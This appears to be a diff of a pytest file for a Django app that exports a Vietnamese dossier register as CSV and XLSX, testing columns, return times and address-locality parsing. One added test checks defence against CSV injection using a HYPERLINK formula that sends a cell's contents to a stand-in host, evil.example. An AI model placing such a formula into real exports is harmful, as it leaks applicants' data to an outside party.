@@ -10,14 +10,20 @@ import pytest
 from rest_framework.test import APIClient
 
 from dossiers.models import Dossier
-from dossiers.register import register_columns
+from dossiers.register import address_locality, register_columns
 from dvctt import workdays
 from tests.dossiers.conftest import make_submitted
-from tests.dossiers.papers import run
+from tests.dossiers.papers import run, settle_and_return, to_approved
 from tests.factories import AgencyFactory, CitizenFactory, make_official
 from tests.procedures.factories import ProcedureFactory
 
 pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def generated_procedure(agency):
+    """A procedure whose result is generated (the clerk issues it without an upload)."""
+    return ProcedureFactory(agencies=[agency], extra={"result_template": "confirmation"})
 
 
 def api_for(user) -> APIClient:
@@ -68,11 +74,12 @@ def test_csv_has_one_row_per_dossier_of_the_period_with_the_mau_06_columns(
     assert first[2] == dossier.procedure.name and first[3] == "1"
     assert first[4] == dossier.applicant_name and first[5] == dossier.applicant_address
     assert first[6] == dossier.applicant_phone
-    assert first[7] == "02/03/2026 09:00"
-    assert first[8] == dossier.due_at.astimezone(workdays.VN_TZ).strftime("%d/%m/%Y %H:%M")
+    assert first[8] == "02/03/2026 09:00"
+    assert first[9] == dossier.due_at.astimezone(workdays.VN_TZ).strftime("%d/%m/%Y %H:%M")
     assert first[10] != ""  # assigned: the hand-over time
-    assert first[11] == reception.get_full_name()
-    assert first[12] == dossier.agency.name and first[13] == "Đang xử lý"
+    assert first[11] == first[12] == ""  # no result yet, nothing handed to the applicant
+    assert first[13] == reception.get_full_name()
+    assert first[14] == dossier.agency.name and first[15] == "Đang xử lý"
     assert data[1][10] == ""  # not handed over yet
 
 
@@ -86,9 +93,9 @@ def test_xlsx_has_the_same_rows(period_dossiers, leader):
     rows = list(book.active.iter_rows(values_only=True))
     assert list(rows[0]) == register_columns()
     assert [row[1] for row in rows[1:]] == [d.code for d in period_dossiers]
-    assert rows[1][7] == dt.datetime(2026, 3, 2, 9, 0)  # a real date cell, Vietnam time
+    assert rows[1][8] == dt.datetime(2026, 3, 2, 9, 0)  # a real date cell, Vietnam time
     # The last day of the period counts whole.
-    assert rows[3][7] == dt.datetime(2026, 3, 31, 9, 0)
+    assert rows[3][8] == dt.datetime(2026, 3, 31, 9, 0)
 
 
 @pytest.mark.parametrize(
@@ -125,3 +132,67 @@ def test_workspace_links_the_register_for_reception_only(client, reception, spec
     assert 'action="/api/v1/register/"' in page and "Sổ theo dõi hồ sơ" in page
     client.force_login(specialist)
     assert 'action="/api/v1/register/"' not in client.get("/can-bo/").content.decode()
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&F2,"Xem hồ sơ")'
+
+
+def test_an_applicant_named_like_a_formula_stays_text_in_csv_and_xlsx(period_dossiers, reception):
+    # OWASP CSV injection (issue 18.4): the applicant's own text is never a live formula.
+    first = period_dossiers[0]
+    Dossier.objects.filter(pk=first.pk).update(
+        applicant_name=FORMULA_NAME, applicant_address="@SUM(1+1)", applicant_phone="+84912345678"
+    )
+    client = api_for(reception)
+    r = client.get("/api/v1/register/?from=2026-03-01&to=2026-03-31&format=csv")
+    body = b"".join(r.streaming_content).decode("utf-8").lstrip("\ufeff")
+    row = list(csv.reader(io.StringIO(body)))[1]
+    assert row[4] == "'" + FORMULA_NAME and row[5] == "'@SUM(1+1)" and row[6] == "'+84912345678"
+
+    from openpyxl import load_workbook
+
+    r = client.get("/api/v1/register/?from=2026-03-01&to=2026-03-31&format=xlsx")
+    book = load_workbook(io.BytesIO(b"".join(r.streaming_content)))
+    name, address, phone = book.active["E2"], book.active["F2"], book.active["G2"]
+    assert (name.data_type, name.value) == ("s", FORMULA_NAME)
+    assert (address.data_type, address.value) == ("s", "@SUM(1+1)")
+    assert (phone.data_type, phone.value) == ("s", "+84912345678")
+    assert book.active["I2"].is_date  # dates stay dates
+
+
+def test_register_gives_the_return_time_and_the_applicants_locality(
+    citizen, generated_procedure, reception, specialist, leader, clerk
+):
+    # Mẫu 06 (Thông tư 01/2018/TT-VPCP): the result handed to the applicant and their locality.
+    dossier = to_approved(
+        citizen, generated_procedure, reception=reception, specialist=specialist, leader=leader
+    )
+    Dossier.objects.filter(pk=dossier.pk).update(
+        applicant_address="Số 12 ngõ 3 phố Huế, phường Hai Bà Trưng, thành phố Hà Nội"
+    )
+    run(dossier, clerk, "issue_result")
+    settle_and_return(dossier, clerk)
+    dossier = Dossier.objects.get(pk=dossier.pk)
+    day = dossier.received_at.astimezone(workdays.VN_TZ).date().isoformat()
+    r = api_for(reception).get(f"/api/v1/register/?from={day}&to={day}&format=csv")
+    body = b"".join(r.streaming_content).decode("utf-8").lstrip("\ufeff")
+    header, row = list(csv.reader(io.StringIO(body)))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["Địa bàn"] == "phường Hai Bà Trưng, thành phố Hà Nội"
+    returned = dossier.returned_at.astimezone(workdays.VN_TZ).strftime("%d/%m/%Y %H:%M")
+    assert cells["Ngày, giờ trả kết quả"] == returned
+    assert cells["Ngày có kết quả"] != "" and cells["Cơ quan giải quyết"] == dossier.agency.name
+
+
+@pytest.mark.parametrize(
+    ("address", "locality"),
+    [
+        ("Thôn Trung, xã Demo, tỉnh Demo", "xã Demo, tỉnh Demo"),
+        ("Số 1 đường Trần Hưng Đạo, Phường Trung Tâm, Tỉnh Demo", "Phường Trung Tâm, Tỉnh Demo"),
+        ("12 Lê Lợi, Bến Thành, TP. Hồ Chí Minh", "TP. Hồ Chí Minh"),
+        ("Tổ 5, Khu phố 2, Hòa Bình, Đồng Nai", "Hòa Bình, Đồng Nai"),
+        ("", ""),
+    ],
+)
+def test_address_locality(address, locality):
+    assert address_locality(address) == locality
